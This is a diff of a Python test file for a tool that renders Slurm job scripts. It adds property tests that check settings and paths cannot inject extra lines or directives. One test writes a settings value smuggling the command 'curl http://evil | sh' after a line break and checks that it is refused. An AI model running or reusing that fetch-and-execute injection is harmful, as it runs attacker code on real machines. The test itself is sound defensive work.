@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import shlex
 import subprocess
 import sys
 from pathlib import Path
@@ -10,7 +11,8 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from aiflux.core.config import SlurmConfig
+from aiflux.core.config import Config, SlurmConfig
+from aiflux.core.parsers import CONTROL
 from aiflux.errors import ConfigError
 from aiflux.slurm.directives import directive, log_file, log_pattern, signal_seconds
 from aiflux.slurm.script import JobScript, generic_script, job_name, render
@@ -186,9 +188,84 @@ def test_options_that_aiflux_sets_are_refused_by_name(name: str) -> None:
     assert caught.value.remedy
 
 
-def test_a_line_break_in_a_path_is_refused() -> None:
-    with pytest.raises(ConfigError, match="line break"):
-        render(job(input=Path("/a\nb")))
+def directives_of(script: str) -> list[str]:
+    """Return the options that sbatch takes from a script, which it reads as far as a command."""
+    found = []
+    for line in script.split("\n"):
+        if line.strip() and not line.startswith("#"):
+            break
+        if line.startswith("#SBATCH"):
+            found += arguments_of(line)
+    return found
+
+
+any_texts = st.text(st.characters(exclude_categories=["Cs"])) | st.text("ab\n\r\0\"'\\#\t $`=")
+DIRECTIVES = {
+    "account": "account", "partition": "partition", "qos": "qos", "gres": "gres",
+    "constraint": "constraint", "exclude": "exclude", "reservation": "reservation",
+    "mail_user": "mail-user", "mail_type": "mail-type", "time": "time", "mem": "mem",
+    "gpus_per_node": "gpus-per-node",
+}  # fmt: skip
+PATHS = ("image", "input", "output_dir", "models_dir", "run_dir")
+
+
+@given(st.sampled_from([*DIRECTIVES, "comment"]), any_texts)
+def test_any_value_of_a_setting_reads_back_from_the_script_or_is_refused(
+    name: str, value: str
+) -> None:
+    given = {"sbatch_arg": {name: value}} if name == "comment" else {name: value}
+    try:
+        slurm = SlurmConfig(**given)
+        script = render(job(slurm=slurm))
+    except ConfigError:
+        formed = ("time", "mem", "gpus_per_node")
+        assert CONTROL.search(value) or not value.strip() or name in formed
+        return
+    kept = value if name == "comment" else getattr(slurm, name)
+    wanted = f"--{DIRECTIVES.get(name, name)}" + (f"={kept}" if kept else "")
+    usual = [
+        option for option in directives_of(render(job()))
+        if option.partition("=")[0] != wanted.partition("=")[0]
+    ]  # fmt: skip
+    if name == "gres" or (name == "gpus_per_node" and kept == "0"):
+        usual = [option for option in usual if "gpus" not in option]
+    left_out = name == "gpus_per_node" and kept == "0"
+    assert sorted(directives_of(script)) == sorted(usual + ([] if left_out else [wanted]))
+
+
+@given(st.sampled_from(["modules", "setup", "sbatch_arg"]), any_texts)
+def test_a_setting_changed_past_its_parser_cannot_end_a_line(name: str, value: str) -> None:
+    slurm = SlurmConfig()
+    object.__setattr__(slurm, name, {"comment": value} if name == "sbatch_arg" else (value,))
+    try:
+        script = render(job(slurm=slurm))
+    except ConfigError:
+        return
+    whole = render(job()).split("\n")
+    more = 1 if name != "modules" else 0
+    assert len(script.split("\n")) == len(whole) + more
+
+
+@given(st.sampled_from(PATHS), any_texts)
+def test_any_path_reads_back_from_the_script_or_is_refused(name: str, value: str) -> None:
+    path = Path(f"/a{value}")
+    try:
+        script = render(job(**{name: path}))
+    except ConfigError:
+        assert CONTROL.search(value)
+        return
+    (line,) = (line for line in script.split("\n") if line.startswith(f"{name}="))
+    assert shlex.split(line) == [f"{name}={path}"]
+    assert directives_of(script) == directives_of(render(job()))
+
+
+def test_a_line_break_in_a_file_of_settings_is_refused_with_its_line(tmp_path: Path) -> None:
+    (tmp_path / "aiflux.yaml").write_text(
+        'slurm:\n  sbatch_arg:\n    comment: "x\\ncurl http://evil | sh"\n', encoding="utf-8"
+    )
+    with pytest.raises(ConfigError, match=r"line 2.*sbatch_arg") as caught:
+        Config(environ={"HOME": str(tmp_path)}, directory=tmp_path)
+    assert "line breaks" in str(caught.value.remedy)
 
 
 def test_directives_stand_before_the_first_command() -> None:
